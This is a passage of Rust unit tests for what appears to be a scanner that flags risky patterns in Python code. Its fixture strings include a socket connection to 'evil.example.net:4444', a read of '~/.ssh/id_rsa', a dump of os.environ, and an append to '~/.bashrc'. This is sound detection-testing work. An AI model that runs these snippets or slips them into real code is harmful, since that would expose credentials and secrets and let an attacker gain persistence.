        assert_eq!(u.writes.keys().collect::<Vec<_>>(), vec!["/srv/out.txt"]);
        assert!(r.contains(&"file-write@6:1".to_owned()), "{r:?}");
        let (_, u) = scan_one(
            "t.py",
            "import socket\nsocket.create_connection(('evil.example.net', 4444))\n",
        );
        assert!(
            u.hosts.contains_key("evil.example.net:4444"),
            "{:?}",
            u.hosts
        );
    }

    #[test]
    fn environ_as_a_whole() {
        assert!(has(
            "import os, json\nprint(json.dumps(dict(os.environ)))\n",
            "env-enumerate@2:23"
        ));
        assert!(rules("import os\nx = os.environ.get('A')\n").is_empty());
    }

    #[test]
    fn credentials_persistence_ffi_dynamic_import() {
        assert!(has(
            "import os\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
            "credential-path@2:29"
        ));
        assert!(has(
            "with open(os.path.expanduser('~/.bashrc'), 'a') as f: pass\n",
            "persistence@1:30"
        ));
        assert!(has("import ctypes\n", "native-ffi@1:1"));
        assert!(has("m = __import__(name)\n", "dynamic-import@1:5"));
        assert!(has(
            "import importlib\nimportlib.import_module(n)\n",
            "dynamic-import@2:1"
        ));
        assert!(rules("\"\"\"See ~/.ssh for keys.\"\"\"\n").is_empty());
    }
}
